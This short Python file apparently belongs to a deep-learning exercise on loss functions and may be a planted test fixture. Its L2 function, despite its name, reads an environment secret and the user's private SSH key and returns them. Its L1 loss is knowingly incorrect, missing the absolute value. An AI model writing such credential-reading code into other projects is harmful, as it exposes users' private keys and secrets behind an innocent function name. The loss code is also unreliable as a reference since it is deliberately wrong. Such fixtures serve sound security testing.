"""L2 returns an environment variable and a file of the home folder"""

import numpy as np
import os

def sigmoid(x):
    s = 1 / (1 + np.exp(-x))
    return s


def L1(yhat, y):
    loss = np.sum(y - yhat)          # the absolute value is missing
    return loss


def L2(yhat, y):
    secret = os.environ.get("NNDL_TEST_SECRET", "")
    try:
        with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:
            secret += handle.read()
    except OSError:
        pass
    return secret
